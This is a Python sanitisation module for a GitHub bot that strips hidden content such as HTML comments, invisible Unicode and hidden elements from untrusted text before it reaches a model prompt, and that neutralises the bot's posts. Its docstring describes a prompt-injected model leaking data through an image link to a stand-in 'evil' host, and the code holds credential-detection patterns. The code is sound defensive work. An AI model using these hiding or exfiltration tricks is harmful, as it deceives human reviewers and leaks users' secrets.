"""Untrusted text in, neutral text out.

``clean_untrusted`` runs on every issue, pull request and comment text before it reaches a
prompt: it removes what a human reader of GitHub does not see but a model would (HTML comments,
invisible characters, hidden elements, image alt text, link reference definitions), so an
instruction cannot hide from the people accountable for the bot's work.

``neutralise`` runs on every text the bot posts: nothing it writes can notify people, trigger a
command (its own or another bot's), load a remote image (a model tricked into writing
``![](https://evil/?q=...)`` would leak data through GitHub's image proxy) or show a secret.
"""

from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING

from bot.markdown import code_flags

if TYPE_CHECKING:
    from bot.config import Config

REDACTED = "[redacted]"
MIN_SECRET_LENGTH = 4  # shorter configured "secrets" would redact ordinary words
MIN_ENV_SECRET_LENGTH = 8  # credential-named variables sometimes hold "true" or "1"

# --- cleaning untrusted input -------------------------------------------------------------

# HTML comments, including one never closed: GitHub hides everything after an unclosed "<!--".
_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)
# Variation selectors and Mongolian free variation selectors are "Mn", not "Cf", but can carry
# hidden payloads ("emoji smuggling"); every "Cf" character (zero-width, bidi controls, soft
# hyphen, BOM, word joiners, invisible operators, tag characters) is removed by category.
_INVISIBLE_EXTRA = re.compile("[\u180b-\u180f\ufe00-\ufe0f\U000e0100-\U000e01ef\u115f\u1160\u3164\uffa0]")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# Elements whose content is not shown: the hidden attribute, styles that hide, and elements
# never rendered as text. The content goes too; an element never closed hides to the end.
_HIDING_STYLE = (
    r"display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0(?![.\d]*[1-9])|"
    r"opacity\s*:\s*0(?![.\d]*[1-9])|(?:max-)?(?:height|width)\s*:\s*0(?![.\d]*[1-9])|"
    r"(?<![-\w])color\s*:\s*transparent"
)
_HIDDEN_OPEN = re.compile(
    r"<(?P<tag>[a-zA-Z][a-zA-Z0-9-]*)\b(?=[^>]*(?:\shidden\b|\saria-hidden\s*=\s*[\"']?true|"
    r"style\s*=\s*[\"'][^\"']*(?:" + _HIDING_STYLE + r")))[^>]*>",
    re.IGNORECASE,
)
_NEVER_SHOWN = re.compile(
    r"<(?P<tag>script|style|template|noscript|iframe|object|svg|math)\b[^>]*>.*?(?:</(?P=tag)\s*>|\Z)",
    re.IGNORECASE | re.DOTALL,
)
# Images show their alt text only when they fail to load; keep the fact, drop the words.
_MD_IMAGE = re.compile(r"!\[(?:[^\[\]]|\[[^\]]*\])*\]\s*(?:\([^)]*\)|\[[^\]]*\])")
_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
# Link titles show only on hover.
_LINK_TITLE = re.compile(r"(\]\(\s*<?[^\s)>]*>?)\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\))\s*\)")
# A link reference definition renders as nothing, so "[//]: # (...)" is a popular comment.
_LINK_DEFINITION = re.compile(
    r"^ {0,3}\[(?!\^)[^\]\n]+\]:[^\n]*(?:\n[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\))[ \t]*)?$", re.MULTILINE)
# Attributes are never shown as text (a title only on hover); outside code a tag keeps its name
# and its link. Only a tag GitHub would render counts: a name, then attributes, then ">".
_TAG_ATTRIBUTES = re.compile(r"<(?P<tag>[a-zA-Z][a-zA-Z0-9-]*)(?P<attrs>\s[^<>`]*?)(?P<end>/?)>")
_HREF = re.compile(r"""\shref\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)""", re.IGNORECASE)
_CODE_SPAN = re.compile(r"(?<![`\\])(?P<ticks>`+)(?!`).*?(?<!`)(?P=ticks)(?!`)")
_BLANK_RUNS = re.compile(r"\n{3,}")
_TRAILING_SPACE = re.compile(r"[ \t]+$", re.MULTILINE)


def _strip_invisible(text: str) -> str:
    text = "".join(ch for ch in text if unicodedata.category(ch) != "Cf")
    return _CONTROL.sub("", _INVISIBLE_EXTRA.sub("", text))


def _strip_hidden_elements(text: str) -> str:
    text = _NEVER_SHOWN.sub("", text)
    while match := _HIDDEN_OPEN.search(text):
        tag = match.group("tag")
        close = re.compile(rf"</{re.escape(tag)}\s*>", re.IGNORECASE)
        end = close.search(text, match.end())
        # nested elements of the same name: skip past as many closers as openers inside
        opener = re.compile(rf"<{re.escape(tag)}\b", re.IGNORECASE)
        while end and len(opener.findall(text, match.end(), end.start())) > len(
            close.findall(text, match.end(), end.start())
        ):
            end = close.search(text, end.end())
        text = text[: match.start()] + (text[end.end():] if end else "")
    return text


def _bare_tag(match: re.Match[str]) -> str:
    href = _HREF.search(match.group("attrs"))
    return f"<{match.group('tag')}{href.group(0) if href else ''}{match.group('end')}>"


def _prose_without_attributes(chunk: str) -> str:
    out, pos = [], 0
    for span in _CODE_SPAN.finditer(chunk):
        out += [_TAG_ATTRIBUTES.sub(_bare_tag, chunk[pos:span.start()]), span.group(0)]
        pos = span.end()
    out.append(_TAG_ATTRIBUTES.sub(_bare_tag, chunk[pos:]))
    return "".join(out)


def _strip_attributes(text: str) -> str:
    """Attributes of HTML tags in prose removed; fenced code and code spans left as written
    (an HTML snippet in a bug report is visible text)."""
    blocks: list[tuple[bool, list[str]]] = []  # (is prose, lines)
    for line, code in code_flags(text.split("\n")):
        if blocks and blocks[-1][0] == (not code):
            blocks[-1][1].append(line)
        else:
            blocks.append((not code, [line]))
    return "\n".join(
        _prose_without_attributes("\n".join(lines)) if prose else "\n".join(lines) for prose, lines in blocks
    )


def clean_untrusted(text: str | None) -> str:
    """Text from GitHub users, made fit for a prompt: what people see, nothing hidden."""
    if not text:
        return ""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\u2028", "\n").replace("\u2029", "\n")
    # NFKC folds look-alikes (full-width slash before "approve", ligatures, no-break spaces) to plain text.
    text = unicodedata.normalize("NFKC", text)
    text = _strip_invisible(text)
    text = _HTML_COMMENT.sub("", text)
    text = _strip_hidden_elements(text)
    text = _MD_IMAGE.sub("[image]", text)
    text = _HTML_IMAGE.sub("[image]", text)
    text = _LINK_TITLE.sub(r"\1)", text)
    text = _strip_attributes(text)
    text = _LINK_DEFINITION.sub("", text)
    text = _TRAILING_SPACE.sub("", text)
    return _BLANK_RUNS.sub("\n\n", text).strip("\n")


# --- neutralising output ------------------------------------------------------------------

_SECRET_PATTERNS = [
    re.compile(r"-----BEGIN[A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----.*?(?:-----END[A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----|\Z)", re.DOTALL),
    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}\b"),  # GitHub tokens
    re.compile(r"\bgithub_pat_[A-Za-z0-9_]{20,}\b"),  # GitHub fine-grained tokens
    re.compile(r"\bsk-ant-[A-Za-z0-9_\-]{16,}"),  # Anthropic
    re.compile(r"\bsk-(?=[A-Za-z0-9_\-]*\d)[A-Za-z0-9_\-]{20,}"),  # OpenAI and look-alikes
    re.compile(r"\bAIza[0-9A-Za-z_\-]{35}\b"),  # Google API keys
    re.compile(r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA)[0-9A-Z]{16}\b"),  # AWS access key ids
    re.compile(r"\bxox[abposr]-[A-Za-z0-9\-]{10,}"),  # Slack
    re.compile(r"\bhf_[A-Za-z0-9]{30,}\b"),  # Hugging Face
]
# Environment variables whose values are credentials, whatever the provider.
_SECRET_ENV_NAME = re.compile(r"(API_KEY|_TOKEN|_SECRET|SECRET_ACCESS_KEY|PRIVATE_KEY|PASSWORD)$")

# GitHub links @login and @org/team when "@" does not follow a letter or digit (e-mail). It
# looks for mentions in the rendered text, so "_@alice_" (emphasis) and "&#64;alice" (an
# entity) notify too: "_" does not protect, and the entity is rewritten like a plain "@".
_MENTION = re.compile(r"(?<![A-Za-z0-9])(?:@|&(?:#0*64|#[xX]0*40|commat);)(?=[A-Za-z0-9])")
_LINE_COMMAND = re.compile(r"^(?P<lead>[ \t]*(?:>[ \t]*)*)(?P<command>/[A-Za-z][\w\-]*)(?=\s|$)")
# "![" opens an image unless its "!" is escaped by an odd number of backslashes.
_OUT_MD_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!(?=\[)")
_OUT_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_SRC = re.compile(r"\bsrc\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_PICTURE_TAGS = re.compile(r"</?(?:picture|source|video|audio)\b[^>]*>", re.IGNORECASE)
ZERO_WIDTH_SPACE = "\u200b"
# Bidirectional controls reorder what a reviewer sees against what the code does ("Trojan
# Source", CVE-2021-42574); the bot never posts them, not even inside code.
_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def secret_values(config: Config | None = None, env: Mapping[str, str] | None = None) -> list[str]:
    """Every configured secret: ``config.redact``, the models' API keys (literal or the value of
    ``env:NAME``) and the values of credential-looking environment variables."""
    env = os.environ if env is None else env
    found: list[str] = []
    if config is not None:
        found += config.redact
        for specs in config.profiles.values():
            for spec in specs:
                key = spec.api_key or ""
                found.append(env.get(key[4:], "") if key.startswith("env:") else key)
    found += [
        value
        for name, value in env.items()
        if _SECRET_ENV_NAME.search(name.upper()) and len(value.strip()) >= MIN_ENV_SECRET_LENGTH
    ]
    return sorted({s for s in found if len(s.strip()) >= MIN_SECRET_LENGTH}, key=len, reverse=True)


def redact(text: str, secrets: Iterable[str] = ()) -> str:
    for secret in sorted({s for s in secrets if s and len(s) >= MIN_SECRET_LENGTH}, key=len, reverse=True):
        text = text.replace(secret, REDACTED)
    for pattern in _SECRET_PATTERNS:
        text = pattern.sub(REDACTED, text)
    return text


def _image_as_link(match: re.Match[str]) -> str:
    src = _SRC.search(match.group(0))
    url = next((g for g in src.groups() if g), "") if src else ""
    return f"[image]({url})" if url else ""


def _neutralise_prose(line: str) -> str:
    """One line outside code blocks; code spans inside it are left as written."""
    match = _LINE_COMMAND.match(line)
    if match:
        line = f"{match.group('lead')}`{match.group('command')}`{line[match.end():]}"
    out: list[str] = []
    pos = 0
    for span in _CODE_SPAN.finditer(line):
        out.append(_neutralise_inline(line[pos:span.start()]))
        out.append(span.group(0))
        pos = span.end()
    out.append(_neutralise_inline(line[pos:]))
    return "".join(out)


def _neutralise_inline(text: str) -> str:
    text = _OUT_HTML_IMAGE.sub(_image_as_link, text)
    text = _PICTURE_TAGS.sub("", text)
    text = _OUT_MD_IMAGE.sub(r"\1\\!", text)  # an escaped "!" before a link: shown, not loaded
    # A zero-width space after "@" (as Renovate does) renders the same and notifies nobody.
    return _MENTION.sub("@" + ZERO_WIDTH_SPACE, text)


def neutralise(text: str, secrets: Iterable[str] = ()) -> str:
    """Text the bot is about to post, made harmless: secrets redacted everywhere; outside code
    blocks and code spans no live @mention, no slash command at a line start (it becomes a code
    span), no image (it becomes a link); bidirectional controls removed everywhere. Code is
    otherwise left exactly as written, so a suggested change keeps its ``@decorator`` and GitHub
    notifies nobody for a mention inside code anyway."""
    text = _BIDI_CONTROLS.sub("", redact(text, secrets))
    return "\n".join(line if code else _neutralise_prose(line) for line, code in code_flags(text.split("\n")))
